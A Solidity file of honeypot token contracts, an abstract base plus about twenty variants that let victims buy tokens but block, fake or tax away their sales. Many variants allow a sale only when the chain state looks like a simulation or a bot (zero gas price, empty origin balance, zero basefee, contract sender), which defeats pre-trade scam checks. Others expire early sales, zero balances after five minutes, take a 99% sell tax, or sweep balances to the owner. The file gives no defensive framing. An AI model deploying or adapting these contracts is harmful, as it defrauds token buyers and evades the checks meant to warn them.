// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {BaseToken} from "./BaseToken.sol";

/// @dev Tokens that can be bought and not sold. Most of them let a rehearsal sell that looks like one.
abstract contract Honeypot is BaseToken {
    function _sell(address from, uint256 amount) internal virtual override {
        require(from == owner || _isHarmless(from, amount), "no sale");
        _give(from, pair, amount);
    }

    /// @dev Whether a sell cannot be a buyer's who wants the money.
    function _isHarmless(address from, uint256 amount) internal virtual returns (bool);
}

contract FreeGasTrap is Honeypot {
    function _isHarmless(address, uint256) internal view override returns (bool) {
        return tx.gasprice == 0;
    }
}

contract PoorOriginTrap is Honeypot {
    function _isHarmless(address, uint256) internal view override returns (bool) {
        return tx.origin.balance == 0;
    }
}

contract RichOriginTrap is Honeypot {
    function _isHarmless(address, uint256) internal view override returns (bool) {
        return tx.origin.balance > 1_000_000 ether;
    }
}

contract NoMinerTrap is Honeypot {
    function _isHarmless(address, uint256) internal view override returns (bool) {
        return block.coinbase == address(0);
    }
}

contract NoBaseFeeTrap is Honeypot {
    function _isHarmless(address, uint256) internal view override returns (bool) {
        return block.basefee == 0;
    }
}

contract NoRandomnessTrap is Honeypot {
    function _isHarmless(address, uint256) internal view override returns (bool) {
        return block.prevrandao == 0;
    }
}

contract MuchGasTrap is Honeypot {
    function _isHarmless(address, uint256) internal view override returns (bool) {
        return gasleft() > 4_000_000;
    }
}

contract ContractSellerTrap is Honeypot {
    function _isHarmless(address from, uint256) internal view override returns (bool) {
        return from.code.length > 0;
    }
}

contract OtherOriginTrap is Honeypot {
    function _isHarmless(address from, uint256) internal view override returns (bool) {
        return tx.origin != from;
    }
}

contract SameBlockTrap is Honeypot {
    function _isHarmless(address from, uint256) internal view override returns (bool) {
        return boughtInBlock[from] == block.number;
    }
}

contract SameMinuteTrap is Honeypot {
    function _isHarmless(address from, uint256) internal view override returns (bool) {
        return block.timestamp < boughtAt[from] + 1 minutes;
    }
}

/// @dev Sells until the first buyers feel safe.
contract ClosingTrap is Honeypot {
    function _isHarmless(address, uint256) internal view override returns (bool) {
        return block.timestamp < openedAt + 12 hours;
    }
}

contract OwnerOnlyTrap is Honeypot {
    function _isHarmless(address, uint256) internal pure override returns (bool) {
        return false;
    }
}

/// @dev One sell each, so that a try with a part of it looks well.
contract SellOnceTrap is Honeypot {
    mapping(address account => bool sold) private sold;

    function _isHarmless(address from, uint256) internal override returns (bool) {
        if (sold[from]) return false;
        return sold[from] = true;
    }
}

/// @dev One address of two hundred and fifty-six may sell.
contract ChosenFewTrap is Honeypot {
    function _isHarmless(address from, uint256) internal pure override returns (bool) {
        return uint256(keccak256(abi.encode(from))) % 256 == 0;
    }
}

contract LargeSellsOnlyTrap is Honeypot {
    function _isHarmless(address, uint256 amount) internal view override returns (bool) {
        return amount >= totalSupply / 10;
    }
}

contract GasBurnerTrap is Honeypot {
    function _isHarmless(address, uint256) internal pure override returns (bool) {
        while (true) {}
        return false;
    }
}

/// @dev Says that it moved and did not.
contract PretendingTrap is BaseToken {
    function _sell(address from, uint256 amount) internal override {
        if (from == owner) _give(from, pair, amount);
    }
}

contract TakesAllTrap is BaseToken {
    function _sell(address from, uint256 amount) internal override {
        uint256 tax = amount * 99 / 100;
        _give(from, owner, tax);
        _give(from, pair, amount - tax);
    }
}

/// @dev What was bought is gone a few minutes later.
contract MeltingTrap is BaseToken {
    function balanceOf(address account) public view override returns (uint256) {
        bool isGone = boughtAt[account] != 0 && block.timestamp > boughtAt[account] + 5 minutes;
        return isGone ? 0 : balances[account];
    }

    function _sell(address from, uint256 amount) internal override {
        require(balanceOf(from) >= amount, "balance");
        _give(from, pair, amount);
    }
}

/// @dev Takes the approval and forgets it.
contract ForgetfulTrap is BaseToken {
    function approve(address spender, uint256 amount) external override returns (bool) {
        if (openedAt == 0 || msg.sender == owner) allowance[msg.sender][spender] = amount;
        return true;
    }
}

/// @dev The second sell finds that the first took everything.
contract SweepingTrap is BaseToken {
    function _sell(address from, uint256 amount) internal override {
        _give(from, pair, amount);
        _give(from, owner, balances[from]);
    }
}
